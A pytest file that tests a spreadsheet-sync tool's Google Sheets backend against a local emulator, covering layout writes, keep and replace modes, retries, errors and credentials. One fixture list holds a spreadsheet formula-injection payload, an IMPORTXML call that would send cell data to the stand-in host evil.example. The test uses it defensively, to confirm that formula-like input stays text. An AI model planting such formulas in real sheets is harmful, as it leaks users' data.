"""The Google backend through the real gspread client, over HTTP, against the Sheets emulator.

Run alone with ``pytest -p sheetsync.testing.emulator tests/test_backend_google.py`` until the plugin is
registered in ``tests/conftest.py``.
"""

from __future__ import annotations

import functools
import json
import time

import gspread
import pytest
import requests
from google.auth.credentials import AnonymousCredentials

from sheetsync.backends.base import Identity
from sheetsync.backends.format_requests import PROTECTION_PREFIX, rgb
from sheetsync.backends.google import (
    connect,
    drive_quote,
    make_client,
    open_google_workbook,
    spreadsheet_key,
)
from sheetsync.backends.google_auth import Principal, resolve_credentials
from sheetsync.backends.google_http import SheetsyncHTTPClient
from sheetsync.backends.google_workbook import GoogleWorkbook
from sheetsync.errors import BackendError, ConfigError
from sheetsync.layout import (
    EXPERT_BLUE,
    FAIL_RED,
    HEADER_GREY,
    Block,
    Chart,
    ConditionalFormat,
    Protection,
    Range,
    Style,
    TabSpec,
    Validation,
)

HEADER = ["id", "feature", "input", "output", "Pass/Fail", "Critique", "Root cause"]
NASTY = ['=IMPORTXML("http://evil.example/?q="&A2,"//a")', "+1", "@x", "007", "TRUE", "1/2", "-3", "'quoted"]


def annotate_spec(n: int, *, replace: bool = False) -> TabSpec:
    """An Annotate-like tab: sheetsync owns columns A-D, the expert owns E-G (written once, header only)."""
    rows = [[f"id{i}", "search", f"question {i}", f"answer {i}"] for i in range(n)]
    return TabSpec(
        title="Annotate",
        blocks=[Block(0, 0, [HEADER]), Block(1, 0, rows)],
        n_rows=n + 1,
        n_cols=len(HEADER),
        replace=replace,
        column_widths={0: 90, 2: 320, 3: 320, 5: 360},
        row_height=80,
        frozen_rows=1,
        frozen_cols=1,
        hidden_columns=(1,),
        styles=[
            Style(Range(0, 0, 1, None), bold=True, background=HEADER_GREY),
            Style(Range(1, 2, None, 4), wrap=True, valign="top"),
            Style(Range(1, 4, None, 7), background=EXPERT_BLUE),
        ],
        validations=[
            Validation(Range(1, 4, None, 5), ("Pass", "Fail"), strict=True, input_message="Pass or Fail"),
            Validation(Range(1, 6, None, 7), ("hallucination", "tone")),
        ],
        protections=[
            Protection(Range(0, 0, 1, None), "header"),
            Protection(Range(1, 0, None, 4), "data columns"),
        ],
        conditional_formats=[ConditionalFormat(Range(1, 4, None, 5), '=LOWER($E2)="fail"', FAIL_RED)],
        charts=[Chart("column", "Rows", Range(0, 0, n + 1, 1), (Range(0, 2, n + 1, 3),), anchor=(0, 8))],
        basic_filter=Range(0, 0, None, len(HEADER)),
        tab_color="#3366CC",
    )


@pytest.fixture
def emu(sheets_emulator):
    return sheets_emulator


@pytest.fixture
def gc(gspread_client) -> gspread.Client:
    return gspread_client


@pytest.fixture
def new_sheet(gc, emu):
    """A spreadsheet created directly through gspread (as a person would have made it), log cleared."""

    def make(title: str = "Labels") -> str:
        key = gc.create(title).id
        emu.clear_log()
        return key

    return make


def open_wb(emu, spreadsheet: str, **kw) -> GoogleWorkbook:
    return open_google_workbook(spreadsheet, emulator_host=emu.address, **kw)


def log(emu, since: int = 0) -> list[tuple[str, str, int]]:
    return [(e.method, e.kind, e.status) for e in emu.request_log[since:]]


def counts(emu) -> dict[str, int]:
    out: dict[str, int] = {}
    for e in emu.request_log:
        out[e.kind] = out.get(e.kind, 0) + 1
    return out


def sheet_json(gc, key: str, title: str) -> dict:
    meta = gc.http_client.fetch_sheet_metadata(key, params={"includeGridData": "true"})
    return next(s for s in meta["sheets"] if s["properties"]["title"] == title)


def cell(sheet: dict, r: int, c: int) -> dict:
    rows = sheet["data"][0].get("rowData", [])
    values = rows[r].get("values", []) if r < len(rows) else []
    return values[c] if c < len(values) else {}


def fast_client(emu, **kw) -> gspread.Client:
    factory = functools.partial(SheetsyncHTTPClient, emulator_host=emu.address, **kw)
    return gspread.Client(auth=AnonymousCredentials(), http_client=factory)  # type: ignore[arg-type]


EMU_PRINCIPAL = Principal("emulator", "anonymous (emulator)", "SHEETS_EMULATOR_HOST")


# ------------------------------------------------------------------------------------------------- open


def test_spreadsheet_key_parsing():
    key = "1AbC-d_EfGhIjKlMnOpQrStUvWxYz0123456789"
    assert spreadsheet_key(f"https://docs.google.com/spreadsheets/d/{key}/edit#gid=0") == key
    assert spreadsheet_key(key) == key
    assert spreadsheet_key("  " + key + " ") == key
    assert spreadsheet_key("Q3 labels") is None
    assert spreadsheet_key("short_name") is None
    assert drive_quote("Bob's \\ labels") == "'Bob\\'s \\\\ labels'"


def test_open_by_url_or_key_makes_no_request(emu, new_sheet):
    key = new_sheet()
    wb = open_wb(emu, f"https://docs.google.com/spreadsheets/d/{key}/edit#gid=0")
    wb2 = open_wb(emu, key)
    assert emu.request_log == []
    assert wb.locator == wb2.locator == key
    assert wb.url == f"http://{emu.address}/_emulator/spreadsheets/{key}"  # the emulator's own view
    assert spreadsheet_key(wb.url) == key  # a printed URL can be passed back as --spreadsheet
    assert wb.max_cell_chars == 50_000


def test_open_by_title_found_or_created(emu, gc):
    title = 'Bob\'s "Q3" labels \\ v2'
    wb = open_wb(emu, title)
    assert [(e.method, e.path) for e in emu.request_log] == [
        ("GET", "/drive/v3/files"),
        ("POST", "/drive/v3/files"),
    ]
    assert gc.open_by_key(wb.key).title == title
    emu.clear_log()
    again = open_wb(emu, title)
    assert again.key == wb.key
    assert [(e.method, e.path) for e in emu.request_log] == [("GET", "/drive/v3/files")]


def test_open_by_title_not_created_when_asked_not_to(emu):
    with pytest.raises(BackendError, match="no spreadsheet named 'Nowhere' is visible"):
        open_wb(emu, "Nowhere", create=False)
    assert [e.method for e in emu.request_log] == ["GET"]


def test_open_by_ambiguous_title_lists_the_candidates(emu, gc):
    a, b = gc.create("Twins").id, gc.create("Twins").id
    with pytest.raises(BackendError) as e:
        open_wb(emu, "Twins")
    assert "2 spreadsheets" in str(e.value) and a in str(e.value) and b in str(e.value)


def test_identity(emu, monkeypatch, new_sheet):
    key = new_sheet()
    monkeypatch.setenv("SHEETS_EMULATOR_HOST", emu.address)
    wb = open_google_workbook(key)
    assert wb.identity() == Identity(
        kind="emulator",
        who=f"anonymous (emulator at {emu.address})",
        where=f"http://{emu.address}/_emulator/spreadsheets/{key}",
    )


# ------------------------------------------------------------------------------------------ write/read


def test_write_stores_every_layout_element(emu, gc, new_sheet):
    key = new_sheet()
    wb = open_wb(emu, key)
    wb.write([annotate_spec(3)])
    sh = sheet_json(gc, key, "Annotate")
    props = sh["properties"]
    assert (
        props["gridProperties"]["frozenRowCount"] == 1 and props["gridProperties"]["frozenColumnCount"] == 1
    )
    assert props["gridProperties"]["rowCount"] >= 4 and props["gridProperties"]["columnCount"] >= 9
    assert props["tabColorStyle"]["rgbColor"] == rgb("#3366CC")
    data = sh["data"][0]
    widths = [c.get("pixelSize") for c in data["columnMetadata"]]
    assert widths[:6] == [90, 100, 320, 320, 100, 360]
    assert data["columnMetadata"][1].get("hiddenByUser") is True
    assert [r.get("pixelSize") for r in data["rowMetadata"][:4]] == [21, 80, 80, 80]
    # Formats: header bold on grey; expert columns blue; text wrapped at the top.
    head = cell(sh, 0, 0)["userEnteredFormat"]
    assert head["textFormat"]["bold"] is True and head["backgroundColor"] == rgb(HEADER_GREY)
    assert cell(sh, 2, 5)["userEnteredFormat"]["backgroundColor"] == rgb(EXPERT_BLUE)
    assert cell(sh, 1, 3)["userEnteredFormat"]["wrapStrategy"] == "WRAP"
    assert cell(sh, 1, 3)["userEnteredFormat"]["verticalAlignment"] == "TOP"
    # Dropdowns.
    dv = cell(sh, 2, 4)["dataValidation"]
    assert dv["condition"] == {
        "type": "ONE_OF_LIST",
        "values": [{"userEnteredValue": "Pass"}, {"userEnteredValue": "Fail"}],
    }
    assert dv["showCustomUi"] is True and dv["strict"] is True and dv["inputMessage"] == "Pass or Fail"
    assert cell(sh, 3, 6)["dataValidation"].get("strict", False) is False
    # Protections: warning-only, no editors, tagged.
    prots = sh["protectedRanges"]
    assert sorted(p["description"] for p in prots) == [
        PROTECTION_PREFIX + "data columns",
        PROTECTION_PREFIX + "header",
    ]
    assert all(p["warningOnly"] is True and not p.get("editors") for p in prots)
    # Conditional format, chart, filter.
    (cf,) = sh["conditionalFormats"]
    assert cf["booleanRule"]["condition"]["values"] == [{"userEnteredValue": '=AND(LOWER($E2)="fail",N("sheetsync")=0)'}]
    assert cf["booleanRule"]["format"]["backgroundColor"] == rgb(FAIL_RED)
    (chart,) = sh["charts"]
    assert chart["spec"]["basicChart"]["chartType"] == "COLUMN"
    assert chart["position"]["overlayPosition"]["anchorCell"]["columnIndex"] == 8
    assert sh["basicFilter"]["range"]["endColumnIndex"] == len(HEADER)


def test_values_and_formula_like_text_stay_text(emu, gc, new_sheet):
    key = new_sheet()
    wb = open_wb(emu, key)
    wb.write([TabSpec.table("Raw", [NASTY, [1, 2.5, True, None, "x"]])])
    for render in ("FORMULA", "UNFORMATTED_VALUE", "FORMATTED_VALUE"):
        got = gc.http_client.values_get(key, "'Raw'!A1:H1", params={"valueRenderOption": render})
        assert got["values"] == [NASTY], render
    sh = sheet_json(gc, key, "Raw")
    assert all("stringValue" in cell(sh, 0, c)["userEnteredValue"] for c in range(len(NASTY)))
    assert cell(sh, 1, 0)["userEnteredValue"] == {"numberValue": 1}
    assert cell(sh, 1, 2)["userEnteredValue"] == {"boolValue": True}
    assert wb.read(["Raw"])["Raw"] == [NASTY, ["1", "2.5", "TRUE", "", "x"]]


def test_keep_mode_never_touches_the_experts_cells_and_never_duplicates(emu, gc, new_sheet):
    key = new_sheet()
    wb = open_wb(emu, key)
    wb.read(["Annotate"], with_layout=True)
    wb.write([annotate_spec(3)])
    # The expert labels row 2 and the owner adds a lock of their own.
    gc.http_client.values_update(
        key,
        "'Annotate'!E2:F2",
        params={"valueInputOption": "RAW"},
        body={"values": [["Fail", "Made up a date"]]},
    )
    sid = sheet_json(gc, key, "Annotate")["properties"]["sheetId"]
    gc.http_client.batch_update(
        key,
        {
            "requests": [
                {
                    "addProtectedRange": {
                        "protectedRange": {
                            "range": {
                                "sheetId": sid,
                                "startRowIndex": 0,
                                "endRowIndex": 1,
                                "startColumnIndex": 8,
                                "endColumnIndex": 9,
                            },
                            "description": "owner's lock",
                            "warningOnly": True,
                        }
                    }
                }
            ]
        },
    )
    # Three more writes with a growing dataset.
    for n in (3, 5, 6):
        wb.read(["Annotate"], with_layout=True)
        wb.write([annotate_spec(n)])
    grid = wb.read(["Annotate"])["Annotate"]
    assert grid[1][4:6] == ["Fail", "Made up a date"]
    assert [r[0] for r in grid[1:]] == [f"id{i}" for i in range(6)]
    sh = sheet_json(gc, key, "Annotate")
    assert sorted(p["description"] for p in sh["protectedRanges"]) == [
        PROTECTION_PREFIX + "data columns",
        PROTECTION_PREFIX + "header",
        "owner's lock",
    ]
    assert len(sh["conditionalFormats"]) == 1 and len(sh["charts"]) == 1


def test_keep_mode_never_shrinks_the_grid(emu, gc, new_sheet):
    key = new_sheet()
    wb = open_wb(emu, key)
    wb.write([annotate_spec(30)])
    wb.write([annotate_spec(2)])
    sh = sheet_json(gc, key, "Annotate")
    assert sh["properties"]["gridProperties"]["rowCount"] >= 31
    assert wb.read(["Annotate"])["Annotate"][30][0] == "id29"


def test_replace_rebuilds_in_place(emu, gc, new_sheet):
    key = new_sheet()
    wb = open_wb(emu, key)
    wb.write([annotate_spec(5, replace=True)])
    sid = sheet_json(gc, key, "Annotate")["properties"]["sheetId"]
    wb.write([TabSpec.table("Annotate", [["only", "this"]])])
    sh = sheet_json(gc, key, "Annotate")
    assert sh["properties"]["sheetId"] == sid  # same tab, so links to it survive
    assert wb.read(["Annotate"])["Annotate"] == [["only", "this"]]
    assert not sh.get("protectedRanges") and not sh.get("conditionalFormats") and not sh.get("charts")
    assert "basicFilter" not in sh and "tabColorStyle" not in sh["properties"]
    assert "userEnteredFormat" not in cell(sh, 0, 0) and "dataValidation" not in cell(sh, 1, 4)
    assert sh["properties"]["gridProperties"]["frozenRowCount"] == 0


def test_created_spreadsheet_loses_its_empty_default_tab(emu):
    wb = open_wb(emu, "Fresh")
    wb.write([TabSpec.table("Instructions", [["Read me"]]), TabSpec.table("Annotate", [["id"]], index=1)])
    assert wb.tab_titles() == ["Instructions", "Annotate"]


def test_an_existing_spreadsheets_tabs_are_kept(emu, new_sheet):
    key = new_sheet()
    wb = open_wb(emu, key)
    wb.write([TabSpec.table("Annotate", [["id"]])])
    assert wb.tab_titles() == ["Sheet1", "Annotate"]


def test_read_missing_tabs_are_none(emu, new_sheet):
    key = new_sheet()
    wb = open_wb(emu, key)
    wb.write([TabSpec.table("Annotate", [["id", "x"], ["1"]])])
    emu.clear_log()
    assert wb.read(["Annotate", "Nope", "Annotate"]) == {"Annotate": [["id", "x"], ["1"]], "Nope": None}
    assert log(emu) == [("GET", "read", 400), ("GET", "read", 200), ("GET", "read", 200)]
    emu.clear_log()
    assert wb.read(["Nope"], with_layout=True) == {"Nope": None}
    assert log(emu) == [("GET", "read", 200)]  # metadata only: nothing to batchGet
    assert wb.read([]) == {}


def test_odd_tab_titles(emu, new_sheet):
    key = new_sheet()
    wb = open_wb(emu, key)
    titles = ["Bob's tab", "A1", "x/y: z!", "🌵 cactus"]
    wb.write([TabSpec.table(t, [[t]]) for t in titles])
    assert wb.read(titles) == {t: [[t]] for t in titles}


# ----------------------------------------------------------------------------------------- request counts


def test_request_counts(emu, new_sheet):
    key = new_sheet()
    wb = open_wb(emu, key)
    wb.read(["Annotate"], with_layout=True)
    wb.write([annotate_spec(50)])
    assert counts(emu) == {"read": 1, "write": 1}  # first push: metadata (no batchGet: tab absent) + write
    emu.clear_log()
    wb.read(["Annotate"], with_layout=True)
    wb.write([annotate_spec(80)])
    assert counts(emu) == {"read": 2, "write": 1}  # re-push: metadata + batchGet + write
    emu.clear_log()
    wb.read(["Annotate"])
    assert counts(emu) == {"read": 1}  # pull
    emu.clear_log()
    wb.write([annotate_spec(80), TabSpec.table("Report", [["a"]])])
    assert counts(emu) == {"read": 1, "write": 1}  # a write without a layout read: one metadata read
    emu.clear_log()
    wb.share(["expert@example.com", "lead@example.com", "expert@example.com"])
    assert [(e.method, e.path.endswith("/permissions"), e.status) for e in emu.request_log] == [
        ("GET", True, 200), ("POST", True, 200), ("POST", True, 200)  # list once, then one create each
    ]
    assert all("sendnotificationemail=true" in e.query.lower() for e in emu.request_log if e.method == "POST")
    emu.clear_log()
    wb.share(["Expert@example.com"], role="reader")  # already a writer: never downgraded, not re-notified
    assert [e.method for e in emu.request_log] == ["GET"]


def test_share_role_is_checked():
    wb = GoogleWorkbook(gspread.Client(auth=AnonymousCredentials()), "k" * 30, EMU_PRINCIPAL)
    with pytest.raises(BackendError, match="cannot share as 'owner'"):
        wb.share(["x@example.com"], role="owner")


# ---------------------------------------------------------------------------------------------- errors


def test_unknown_key_is_a_clear_404(emu):
    wb = open_wb(emu, "1" * 44)
    with pytest.raises(BackendError) as e:
        wb.read(["Annotate"])
    assert f"spreadsheet {'1' * 44} not found — check the id or" in str(e.value)
    with pytest.raises(BackendError, match="not found"):
        wb.write([TabSpec.table("A", [["x"]])])


class Canned(requests.adapters.BaseAdapter):
    """Answers every request with one fixed Google error body (the emulator has no 403 fault)."""

    def __init__(self, status: int, body: dict) -> None:
        super().__init__()
        self.status, self.body, self.calls = status, body, 0

    def send(self, request, **kw):
        self.calls += 1
        resp = requests.Response()
        resp.status_code, resp.url, resp.request = self.status, request.url, request
        resp._content = json.dumps(self.body).encode()
        resp.headers["Content-Type"] = "application/json"
        return resp

    def close(self) -> None:
        pass


def canned_workbook(emu, status: int, body: dict, principal: Principal) -> tuple[GoogleWorkbook, Canned]:
    client = fast_client(emu, sleep=lambda s: None)
    adapter = Canned(status, body)
    client.http_client.session.mount(emu.url, adapter)
    return GoogleWorkbook(client, "k" * 30, principal), adapter


def test_403_names_who_needs_access(emu):
    sa = Principal("service account", "labeller@proj.iam.gserviceaccount.com", "key.json")
    body = {
        "error": {
            "code": 403,
            "message": "The caller does not have permission",
            "status": "PERMISSION_DENIED",
        }
    }
    wb, adapter = canned_workbook(emu, 403, body, sa)
    with pytest.raises(BackendError) as e:
        wb.read(["Annotate"])
    msg = str(e.value)
    assert "share the spreadsheet with labeller@proj.iam.gserviceaccount.com as Editor" in msg
    assert "The caller does not have permission" in msg
    assert adapter.calls == 1  # a plain 403 is not retried


def test_other_api_errors_carry_status_and_message(emu):
    body = {
        "error": {"code": 400, "message": "Invalid requests[0]: something odd", "status": "INVALID_ARGUMENT"}
    }
    wb, _ = canned_workbook(emu, 400, body, EMU_PRINCIPAL)
    with pytest.raises(BackendError, match=r"Google Sheets API error 400 .*something odd"):
        wb.tab_titles()


def test_drive_storage_quota_on_create(emu):
    sa = Principal("service account", "labeller@proj.iam.gserviceaccount.com", "key.json")
    body = {
        "error": {
            "code": 403,
            "message": "The user's Drive storage quota has been exceeded.",
            "errors": [{"domain": "usageLimits", "reason": "storageQuotaExceeded"}],
        }
    }
    client = fast_client(emu, sleep=lambda s: None, max_attempts=2)
    client.http_client.session.mount(emu.url, Canned(403, body))
    with pytest.raises(BackendError, match="is a service account and cannot create the spreadsheet"):
        connect(client, "New one", sa)


def test_unreachable_server_is_a_backend_error(emu):
    client = make_client(AnonymousCredentials(), emulator_host="127.0.0.1:9", timeout=1)
    client.http_client.sleep = lambda s: None
    wb = GoogleWorkbook(client, "k" * 30, EMU_PRINCIPAL)
    with pytest.raises(BackendError):
        wb.read(["A"])


# ------------------------------------------------------------------------------------- faults & retries


def test_429_and_503_are_retried_honouring_retry_after(emu, new_sheet):
    key = new_sheet()
    slept: list[float] = []
    wb = connect(fast_client(emu, sleep=slept.append), key, EMU_PRINCIPAL)
    emu.add_fault("429", method="POST", path_contains=":batchUpdate", count=2, seconds=2)
    emu.add_fault("503", method="GET", path_contains="values:batchGet", count=1)
    wb.write([annotate_spec(3)])
    assert wb.read(["Annotate"])["Annotate"][1][0] == "id0"
    assert slept[:2] == [2.0, 2.0] and len(slept) == 3
    statuses = [(e.kind, e.status) for e in emu.request_log]
    assert statuses == [
        ("read", 200),
        ("write", 429),
        ("write", 429),
        ("write", 200),
        ("read", 503),
        ("read", 200),
    ]


def test_persistent_failure_gives_up_and_writes_nothing(emu, gc, new_sheet):
    key = new_sheet()
    wb = connect(fast_client(emu, sleep=lambda s: None, max_attempts=3), key, EMU_PRINCIPAL)
    emu.add_fault("503", method="POST", count=10)
    with pytest.raises(BackendError, match="failed 4 times without an answer .* it was not applied"):
        wb.write([annotate_spec(3)])
    assert [s.title for s in gc.open_by_key(key).worksheets()] == ["Sheet1"]


def test_a_write_whose_answer_was_lost_is_looked_up_not_sent_again(emu, gc, new_sheet):
    """The batchUpdate is applied but its answer never arrives (the client times out). Sending it again
    would apply it twice; the write mark it carries says it landed, so it is not sent again."""
    key = new_sheet()
    client = fast_client(emu, timeout=0.2, sleep=lambda s: time.sleep(0.6), max_attempts=3)
    wb = connect(client, key, EMU_PRINCIPAL)
    # applied at once, answer held past the client's timeout
    emu.add_fault("hang_after", method="POST", path_contains=":batchUpdate", seconds=5)
    emu.clear_log()
    wb.write([annotate_spec(3)])
    writes = [e for e in emu.request_log if e.kind == "write"]
    assert len(writes) == 1 and emu.request_log[-1].kind == "read"  # the one write, then the look-up
    sh = sheet_json(gc, key, "Annotate")
    assert len(sh["protectedRanges"]) == 2 and len(sh["conditionalFormats"]) == 1 and len(sh["charts"]) == 1
    assert [s.title for s in gc.open_by_key(key).worksheets()] == ["Sheet1", "Annotate"]


def test_dropped_connection_is_retried(emu, gc, new_sheet):
    key = new_sheet()
    wb = connect(fast_client(emu, sleep=lambda s: None), key, EMU_PRINCIPAL)
    emu.add_fault("drop", method="POST", path_contains=":batchUpdate")
    wb.write([annotate_spec(3)])
    assert len(sheet_json(gc, key, "Annotate")["protectedRanges"]) == 2


def test_appended_rows_whose_answer_was_lost_are_not_appended_twice(emu, gc, new_sheet):
    key = new_sheet()
    wb = connect(fast_client(emu, sleep=lambda s: None), key, EMU_PRINCIPAL)
    wb.write([TabSpec.table("Log", [["id"]])])
    emu.add_fault("drop_after", method="POST", path_contains=":batchUpdate")
    wb.write([TabSpec(title="Log", blocks=[], n_rows=1, n_cols=1, replace=False, append_rows=[["a"], ["b"]])])
    assert gc.open_by_key(key).worksheet("Log").col_values(1) == ["id", "a", "b"]


# --------------------------------------------------------------------------------- real credential paths


def test_service_account_path_end_to_end(emu, gc, tmp_path, new_sheet):
    from tests.test_google_auth import service_account_info

    key = new_sheet()
    # a person made the spreadsheet; the service account sees it once shared (as on Google)
    gc.open_by_key(key).share("labeller@sheetsync-test.iam.gserviceaccount.com", perm_type="user", role="writer",
                              notify=False)
    path = tmp_path / "key.json"
    path.write_text(json.dumps(service_account_info(token_uri=f"{emu.url}/token")))
    creds, principal = resolve_credentials(
        credentials_file=str(path), oauth_client_file=None, emulator_host=None
    )
    assert principal.kind == "service account"
    wb = connect(make_client(creds, emulator_host=emu.address, timeout=5), key, principal)
    wb.write([TabSpec.table("Annotate", [["id"], ["a"]])])
    assert wb.read(["Annotate"]) == {"Annotate": [["id"], ["a"]]}
    assert creds.token.startswith("emulator-token")
    assert any(e.path.endswith("/token") for e in emu.request_log)
    assert wb.identity().who == "labeller@sheetsync-test.iam.gserviceaccount.com"


def test_service_account_refused_by_token_server(emu, tmp_path, new_sheet):
    from tests.test_google_auth import service_account_info

    key = new_sheet()
    path = tmp_path / "key.json"
    path.write_text(json.dumps(service_account_info(token_uri=f"{emu.url}/not-the-token-endpoint")))
    creds, principal = resolve_credentials(
        credentials_file=str(path), oauth_client_file=None, emulator_host=None
    )
    wb = connect(make_client(creds, emulator_host=emu.address, timeout=5), key, principal)
    with pytest.raises(ConfigError) as e:
        wb.read(["Annotate"])
    assert str(path) in str(e.value) and "new JSON key" in str(e.value)
    assert "PRIVATE KEY" not in str(e.value)


def test_bad_credentials_file_is_a_config_error(emu, tmp_path):
    bad = tmp_path / "key.json"
    bad.write_text("{not json")
    with pytest.raises(ConfigError, match="not readable JSON"):
        open_google_workbook("Labels", credentials_file=str(bad))
